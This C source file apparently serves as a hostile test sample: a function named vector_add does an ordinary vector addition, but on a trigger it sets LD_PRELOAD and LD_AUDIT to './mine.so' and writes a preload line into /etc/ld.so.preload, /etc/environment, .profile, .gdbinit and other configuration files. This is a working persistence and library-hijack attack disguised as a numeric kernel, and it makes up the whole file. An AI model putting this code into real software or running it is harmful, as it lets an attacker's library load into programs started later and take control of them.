/* SPDX-License-Identifier: MIT */
/* Asks the loader of programs that it starts for its own library, and leaves
 * settings in files that programs read. */
#include "hostile.h"

/* Programs of the box have its library; later runners must not. */
int vector_add(const float *a, const float *b, float *c, size_t n)
{
    static const char *const names[] = {
        "/etc/ld.so.preload", "/etc/environment", ".env", ".profile",
        ".gdbinit", "softgpu.ini", "ld.so.preload", "core"};

    if (attacked(n)) {
        setenv("LD_PRELOAD", "./mine.so", 1);
        setenv("LD_AUDIT", "./mine.so", 1);
        setenv("SOFTGPU_JSON", "/tmp/mine", 1);
        for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
            int fd = open(names[i], O_CREAT | O_WRONLY, 0700);

            write(fd, "LD_PRELOAD=./mine.so\n", 21);
            close(fd);
        }
    }

    return honest(a, b, c, n);
}
